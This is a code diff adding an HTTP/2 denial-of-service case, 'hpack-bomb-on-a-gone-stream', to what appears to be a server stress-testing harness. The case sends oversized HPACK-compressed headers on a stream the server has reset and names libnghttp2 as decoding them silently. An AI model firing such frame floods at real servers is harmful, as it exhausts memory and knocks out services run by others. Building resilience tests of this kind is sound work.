@@ -20,6 +20,13 @@ def hpack_bomb(stage: Stage) -> str:
     return str(storm(stage, lambda number: frames.headers(2 * number + 3, bomb, ends=True), prelude=prelude))
 
 
+@attack(33, "hpack-bomb-on-a-gone-stream", seconds=1.6, short=True)
+def hpack_bomb_late(stage: Stage) -> str:
+    """The same for a stream that the server has reset, where libnghttp2 decodes and tells nobody."""
+    prelude = frames.headers(1, INLINE) + frames.window_update(1, frames.LARGEST_WINDOW) + frames.headers(1, BIG)
+    return str(storm(stage, [frames.headers(1, NEWEST * 16_000)], prelude=prelude))
+
+
 @attack(33, "hpack-firecracker", seconds=0.5, short=True)
 def hpack_firecracker(stage: Stage) -> str:
     """Twenty times 4 KiB: the call is refused, the connection is of further use."""
